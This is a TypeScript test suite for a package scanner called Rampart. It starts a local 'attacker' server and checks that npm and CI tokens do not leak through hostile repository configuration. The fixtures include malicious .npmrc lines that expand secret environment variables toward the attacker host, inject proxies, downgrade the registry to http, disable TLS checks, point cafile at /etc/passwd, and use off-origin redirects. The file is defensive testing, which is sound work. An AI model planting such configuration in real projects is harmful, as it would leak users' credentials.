/**
 * The trust model of package look-ups ("What Rampart sends, and where" in the README), attacked the way
 * a hostile repository would: a loopback "attacker" server records every request it gets, and each test
 * checks that no credential from the user's configuration or environment reaches it.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { loadNpmConfig } from '../../src/services/npm-config';
import { NpmRegistry } from '../../src/services/npm-registry';
import { makeTree, removeTree, runCli } from '../cli/helpers';
import { packument } from './registry-server';

interface Seen {
  method: string;
  url: string;
  authorization: string | undefined;
  proxyAuthorization: string | undefined;
}

interface Attacker {
  readonly url: string;
  readonly host: string;
  readonly seen: Seen[];
  /** Answers every request; the default sends a packument for whatever name was asked. */
  handler: (req: http.IncomingMessage, res: http.ServerResponse) => void;
  close(): Promise<void>;
}

async function startAttacker(): Promise<Attacker> {
  const seen: Seen[] = [];
  const attacker = {
    seen,
    handler: (req: http.IncomingMessage, res: http.ServerResponse) => {
      const name = decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname.slice(1));
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify(packument(name, { '1.0.0': { time: '2020-01-01T00:00:00.000Z' } })));
    },
  } as Attacker & { url: string; host: string; close(): Promise<void> };
  const server = http.createServer((req, res) => {
    seen.push({ method: req.method ?? '', url: req.url ?? '', authorization: req.headers.authorization, proxyAuthorization: req.headers['proxy-authorization'] });
    attacker.handler(req, res);
  });
  server.on('connect', (req, socket) => {
    seen.push({ method: 'CONNECT', url: req.url ?? '', authorization: req.headers.authorization, proxyAuthorization: req.headers['proxy-authorization'] });
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return Object.assign(attacker, {
    url: `http://127.0.0.1:${port}/`,
    host: `127.0.0.1:${port}`,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  });
}

const SECRETS = { NPM_TOKEN: 'npm-ci-secret-0001', GITHUB_TOKEN: 'ghs-ci-secret-0002', AWS_SECRET_ACCESS_KEY: 'aws-ci-secret-0003' };

/** Every secret value, plain and base64-encoded, that must not appear in anything the attacker saw. */
function assertNoSecret(seen: readonly Seen[], secrets: readonly string[]): void {
  const everything = JSON.stringify(seen);
  for (const secret of secrets) {
    assert.ok(!everything.includes(secret), `the attacker received ${secret}`);
    assert.ok(!everything.includes(Buffer.from(secret).toString('base64')), `the attacker received ${secret} (base64)`);
    const decoded = seen.flatMap((s) => [s.authorization, s.proxyAuthorization]).filter((v): v is string => !!v).map((v) => Buffer.from(v.replace(/^\w+ /, ''), 'base64').toString());
    assert.ok(!decoded.some((d) => d.includes(secret)), `the attacker received ${secret} inside a Basic header`);
  }
}

describe('package look-ups: what a hostile repository cannot make Rampart send', () => {
  let attacker: Attacker;
  let dir: string;
  let home: string;
  beforeEach(async () => {
    attacker = await startAttacker();
    home = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'rampart-home-')));
  });
  afterEach(async () => {
    await attacker.close();
    removeTree(home);
    if (dir) removeTree(dir);
  });

  const manifest = JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { 'left-pad-extra': '^1.0.0' } });
  const scan = (env: NodeJS.ProcessEnv) =>
    runCli(['scan', '--format', 'json', '.'], { cwd: dir, env: { npm_config_userconfig: path.join(home, '.npmrc'), PIP_CONFIG_FILE: '/dev/null', ...env }, online: true });

  describe('1. a workspace .npmrc never expands environment variables or supplies credentials', () => {
    const cases: Array<[string, string[]]> = [
      ['_authToken=${NPM_TOKEN}', [':_authToken=${NPM_TOKEN}']],
      ['_authToken=${GITHUB_TOKEN}', [':_authToken=${GITHUB_TOKEN}']],
      ['username= and _password=${AWS_SECRET_ACCESS_KEY}', [':username=ci', ':_password=${AWS_SECRET_ACCESS_KEY}']],
      ['_auth=${NPM_TOKEN}', [':_auth=${NPM_TOKEN}']],
    ];
    for (const [title, lines] of cases) {
      it(`${title}: the name reaches the registry the repository named, no credential does`, async () => {
        dir = makeTree({
          'package.json': manifest,
          '.npmrc': [`registry=${attacker.url}`, ...lines.map((l) => `//${attacker.host}/${l}`)].join('\n'),
        });
        const run = await scan(SECRETS);
        assert.ok(attacker.seen.some((s) => s.url.includes('left-pad-extra')), `the look-up went to the named registry: ${run.stderr}`);
        assert.ok(attacker.seen.every((s) => s.authorization === undefined), JSON.stringify(attacker.seen));
        assertNoSecret(attacker.seen, Object.values(SECRETS));
        assert.match(run.stderr, /\.npmrc: ignored .* credentials, proxies and TLS settings come only from your own npm configuration/);
      });
    }

    it('the same token in the user\'s own ~/.npmrc is sent, to the registry the user named', async () => {
      fs.writeFileSync(path.join(home, '.npmrc'), `registry=${attacker.url}\n//${attacker.host}/:_authToken=\${NPM_TOKEN}\n`);
      dir = makeTree({ 'package.json': manifest });
      await scan(SECRETS);
      assert.deepEqual([...new Set(attacker.seen.map((s) => s.authorization))], [`Bearer ${SECRETS.NPM_TOKEN}`]);
    });
  });

  describe('2. a workspace .npmrc cannot downgrade to http or add a proxy to reach the user\'s token', () => {
    it('proxy and https-proxy from the workspace are not used, and the token does not follow an http downgrade', async () => {
      // The user's registry is https on good.example; the repository downgrades it and adds a proxy.
      fs.writeFileSync(path.join(home, '.npmrc'), 'registry=https://good.example/\n//good.example/:_authToken=user-own-token-0004\n');
      dir = makeTree({
        'package.json': manifest,
        '.npmrc': `registry=http://good.example/\nproxy=${attacker.url}\nhttps-proxy=${attacker.url}\nstrict-ssl=false\ncafile=/etc/passwd\n`,
      });
      const run = await scan({});
      assert.deepEqual(attacker.seen, [], 'nothing reached the repository\'s proxy');
      assert.match(run.stderr, /ignored cafile, https-proxy, proxy, strict-ssl/);
    });

    it('over http to the host the user named with https, the name goes but the token stays home', async () => {
      // The attacker listens on the host and port of the user's https registry, speaking http.
      fs.writeFileSync(path.join(home, '.npmrc'), `registry=https://${attacker.host}/\n//${attacker.host}/:_authToken=user-own-token-0005\n`);
      dir = makeTree({ 'package.json': manifest, '.npmrc': `registry=http://${attacker.host}/\n` });
      await scan({});
      assert.ok(attacker.seen.length > 0, 'the downgraded look-up was made (names may go where the repository says)');
      assertNoSecret(attacker.seen, ['user-own-token-0005']);
    });

    it('.rampart.jsonc registries get the same treatment as a project .npmrc', async () => {
      fs.writeFileSync(path.join(home, '.npmrc'), `registry=https://${attacker.host}/\n//${attacker.host}/:_authToken=user-own-token-0006\n`);
      dir = makeTree({ 'package.json': manifest, '.rampart.jsonc': JSON.stringify({ packages: { registries: { npm: attacker.url } } }) });
      await scan({});
      assert.ok(attacker.seen.length > 0);
      assertNoSecret(attacker.seen, ['user-own-token-0006']);
    });

    it('.rampart.jsonc cannot carry credentials in a registry URL', async () => {
      dir = makeTree({ 'package.json': manifest, '.rampart.jsonc': JSON.stringify({ packages: { registries: { npm: `http://user:pw@${attacker.host}/` } } }) });
      const run = await scan({});
      assert.equal(run.code, 2);
      assert.match(run.stderr, /must be an http:\/\/ or https:\/\/ URL without credentials/);
      assert.deepEqual(attacker.seen, []);
    });
  });

  describe('3. the token never follows a redirect off the registry\'s origin', () => {
    let other: Attacker;
    beforeEach(async () => {
      other = await startAttacker();
    });
    afterEach(() => other.close());

    async function redirectTo(location: (name: string) => string): Promise<ReturnType<NpmRegistry['lookup']>> {
      fs.writeFileSync(path.join(home, '.npmrc'), `registry=${attacker.url}\n//127.0.0.1/:_authToken=user-own-token-0007\n//${attacker.host}/:_authToken=user-own-token-0007\n`);
      attacker.handler = (req, res) => {
        res.writeHead(302, { location: location(req.url ?? '/') });
        res.end();
      };
      const config = await loadNpmConfig({ cwd: home, env: { npm_config_userconfig: path.join(home, '.npmrc') }, homedir: home });
      return new NpmRegistry({ ...config, fetchOptions: config.options, timeoutMs: 2000, retries: 0 }).lookup('left-pad-extra');
    }

    it('to the same host name on another port: not followed, the look-up is unknown', async () => {
      const info = await redirectTo((url) => `http://127.0.0.1:${new URL(other.url).port}${url}`);
      assert.equal(info.status, 'unknown');
      assert.match((info as { reason: string }).reason, /refused to follow the registry/);
      assert.deepEqual(other.seen, []);
      assert.equal(attacker.seen[0]?.authorization, 'Bearer user-own-token-0007', 'the registry itself got the token');
    });

    it('to another scheme on the same host: not followed', async () => {
      const info = await redirectTo((url) => `https://${attacker.host}${url}`);
      assert.equal(info.status, 'unknown');
      assert.match((info as { reason: string }).reason, /refused to follow the registry from http:\/\/127\.0\.0\.1:\d+ to https:/, 'refused before connecting');
      assert.equal(attacker.seen.length, 1, 'no second request');
    });

    it('within the registry\'s origin: followed, with the token', async () => {
      let first = true;
      fs.writeFileSync(path.join(home, '.npmrc'), `registry=${attacker.url}\n//${attacker.host}/:_authToken=user-own-token-0008\n`);
      attacker.handler = (req, res) => {
        if (first) {
          first = false;
          res.writeHead(301, { location: `${attacker.url}left-pad-extra` });
          res.end();
          return;
        }
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify(packument('left-pad-extra', { '1.0.0': { time: '2020-01-01T00:00:00.000Z' } })));
      };
      const config = await loadNpmConfig({ cwd: home, env: { npm_config_userconfig: path.join(home, '.npmrc') }, homedir: home });
      const info = await new NpmRegistry({ ...config, fetchOptions: config.options, retries: 0 }).lookup('left-pad-extra');
      assert.equal(info.status, 'found');
      assert.deepEqual(attacker.seen.map((s) => s.authorization), ['Bearer user-own-token-0008', 'Bearer user-own-token-0008']);
    });
  });
});
